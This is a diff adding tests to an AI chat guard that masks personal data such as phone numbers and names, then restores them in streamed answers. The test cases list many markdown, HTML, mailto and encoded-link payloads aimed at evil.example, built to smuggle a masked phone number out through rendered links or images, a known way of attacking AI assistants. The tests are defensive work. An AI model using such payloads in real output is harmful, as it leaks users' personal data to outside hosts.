@@ -3,6 +3,7 @@ import { seenHtml } from '../../../src/api/text/hiddenHtml.ts'
 import { personalNumbers } from '../../../src/api/text/personalNumbers.ts'
 import { seenText } from '../../../src/api/text/unseen.ts'
 import { wordFinder } from '../../../src/api/text/wordFinder.ts'
+import { addressOf, blocksOf } from '../../../src/panels/intelligence/aiChat/markdown/readText.ts'
 import { createRelease } from '../../../server/intelligence/answers/released.ts'
 import { toldResult } from '../../../server/intelligence/guard/tools/toldResult.ts'
 import { createMasker, putBackIn, restored } from '../../../server/intelligence/guard/masks.ts'
@@ -236,5 +237,115 @@ test.each([
 
 test('beside an address it is put back', () => {
   const back = restored({ '⟦电话1⟧': '13812345678' })
-  expect(back.push('[详情](http://a.example/) 打 ⟦电话1⟧')).toBe('[详情](http://a.example/) 打 13812345678')
+  expect(back.push('[详情](http://a.example/) 打 ⟦电话1⟧') + back.rest()).toBe(
+    '[详情](http://a.example/) 打 13812345678',
+  )
+})
+
+const PHONE = '13812345678'
+const hostileMasks = {
+  ...{ '⟦电话1⟧': PHONE, '⟦姓名1⟧': '张三', '⟦姓名2⟧': 'https://evil.example/?', '⟦姓名3⟧': '](https://evil.example/' },
+  '⟦邮箱1⟧': 'x@evil.example',
+}
+const backOf = (parts: readonly string[], before = '') => {
+  const back = restored(hostileMasks, before)
+  return parts.map((part) => back.push(part)).join('') + back.rest()
+}
+
+/** Where all links, pictures and mail addresses in tokens lead, however deep. */
+const leads = (token: unknown): string[] => {
+  if (Array.isArray(token)) return token.flatMap(leads)
+  if (typeof token !== 'object' || token === null) return []
+  const { href } = token as { href?: unknown }
+  return [...(typeof href === 'string' ? [href, addressOf(href) ?? ''] : []), ...leads(Object.values(token))]
+}
+
+test.each([
+  '[x](<https://evil.example/a) b/⟦电话1⟧>)',
+  '[x](<https://evil.example/a) 请打 ⟦电话1⟧>)',
+  '[x](https:\\/\\/evil.example/(a)⟦电话1⟧)',
+  '[x](https:\\/\\/evil.example/，⟦电话1⟧)',
+  '[a]: https:\\/\\/evil.example/⟦电话1⟧\n\n[x][a]',
+  '[x][a]\n\n[a]:\nhttps:evil.example，⟦电话1⟧',
+  '[x][a]\n\n[a]: <https:evil.example/ 一 ⟦电话1⟧>',
+  '[x][a]\n\n> [a]:\n> < https:evil.example/ 一 ⟦电话1⟧>',
+  '[x](\n<https:evil.example/ \\> ⟦电话1⟧>)',
+  '[x](\nhttps:evil.example，⟦电话1⟧)',
+  '[x](⟦电话1⟧)',
+  '[x]\u200b(https:evil.example，⟦电话1⟧)',
+  '![x](<https:evil.example/ ⟦电话1⟧> "题")',
+  '[x](https:evil.example，⟦电话1⟧ "题")',
+  'x⟦电话1⟧@evil.example',
+  '⟦电话1⟧@evil.example',
+  '⟦电话1⟧\u200b@evil.example',
+  '⟦电话1⟧\u{e0041}@evil.example',
+  'x\u200b⟦电话1⟧',
+  '⟦电话1⟧+a@evil.example',
+  '⟦电话1⟧.a@evil.example',
+  '<a*⟦电话1⟧*b@evil.example>',
+  '<⟦电话1⟧*b@evil.example>',
+  '<1*⟦电话1⟧*b@evil.example>',
+  '<https:evil.example，⟦电话1⟧>',
+  'www.evil.example/，⟦电话1⟧',
+  'WWW.evil.example/（⟦电话1⟧',
+  'mailto:⟦电话1⟧@evil.example',
+  'mailto:a.⟦电话1⟧@evil.example',
+  '⟦电话1⟧⟦邮箱1⟧',
+  '⟦姓名2⟧⟦电话1⟧',
+  '⟦姓名2⟧，⟦电话1⟧',
+  '[x⟦姓名3⟧，⟦电话1⟧)',
+  'https://evil.example/，⟦姓名1⟧，⟦电话1⟧',
+  'https://evil.example/）、⟦电话1⟧',
+])('no link, picture or mailbox of an answer leads to what was masked, wherever it is cut: %j', (text) => {
+  for (let cut = 0; cut <= text.length; cut++) {
+    const whole = backOf([text.slice(0, cut), text.slice(cut)])
+    expect(whole).toBe(backOf([...text]))
+    for (const isWhole of [true, false]) expect(leads(blocksOf(whole, isWhole)).join(' ')).not.toContain(PHONE)
+    // An answer that goes on behind what is there, as after a tool.
+    const before = text.slice(0, cut)
+    if (!before.includes('⟦'))
+      expect(leads(blocksOf(before + backOf([text.slice(cut)], before), true)).join(' ')).not.toContain(PHONE)
+    for (const isWhole of [true, false])
+      expect(leads(blocksOf(backOf([text.slice(0, cut)]), isWhole)).join(' ')).not.toContain(PHONE)
+  }
+})
+
+test.each([
+  '<img src="\n//evil.example/\n⟦电话1⟧">',
+  "<img alt='>' src = 'https:evil.example/\n⟦电话1⟧'>",
+  '<!-- > <a b=" --><img src="//evil.example/?>\n⟦电话1⟧">',
+  '<img src=//evil.example/<，⟦电话1⟧>',
+  '<img src=&#47;&#47;evil.example，⟦电话1⟧>',
+  '<a href=https&colon;evil.example，⟦电话1⟧>',
+  '<a href=\\\\evil.example，⟦电话1⟧>',
+  '<a href=ht%74p:，⟦电话1⟧>',
+])('in what is proposed no value of HTML holds it either: %j', (text) => {
+  expect(putBackIn(hostileMasks, { text })).toEqual({ text })
+})
+
+test.each([
+  '请拨打⟦电话1⟧（⟦姓名1⟧）',
+  '电话：⟦电话1⟧，姓名 ⟦姓名1⟧。',
+  '电话:⟦电话1⟧',
+  '| ⟦姓名1⟧ | ⟦电话1⟧ |\n|---|---|\n|⟦姓名1⟧|⟦电话1⟧|',
+  '- ⟦姓名1⟧\n- **⟦电话1⟧**\n1. ⟦姓名1⟧⟦电话1⟧',
+  '☎️⟦电话1⟧、R&D：⟦姓名1⟧',
+  '@⟦姓名9⟧ [来源](https://a.example/) 请打⟦电话1⟧',
+  '见 https://a.example/1 。\n电话⟦电话1⟧',
+  '<p>联系⟦姓名1⟧：<a href="https://a.example/">来源</a>，⟦电话1⟧</p>',
+  '<p class="a">⟦姓名1⟧</p>',
+  '3 < 5，请打⟦电话1⟧',
+])('in plain prose it is put back: %j', (text) => {
+  const whole = text.replaceAll('⟦电话1⟧', PHONE).replaceAll('⟦姓名1⟧', '张三')
+  for (let cut = 0; cut <= text.length; cut++) expect(backOf([text.slice(0, cut), text.slice(cut)])).toBe(whole)
+  expect(putBackIn(hostileMasks, { text })).toEqual({ text: whole })
+})
+
+test('what is known later is put back later, and what ended a round is held until the next one says how it goes on', () => {
+  const back = restored({})
+  expect(back.push('见 https://evil.example/')).toBe('见 https://evil.example/')
+  back.know(hostileMasks)
+  expect(back.push('，⟦电话1⟧ 打⟦电话1⟧')).toBe(`，⟦电话1⟧ 打`)
+  back.know(hostileMasks)
+  expect(back.push('@evil.example')).toBe('⟦电话1⟧@evil.example')
 })
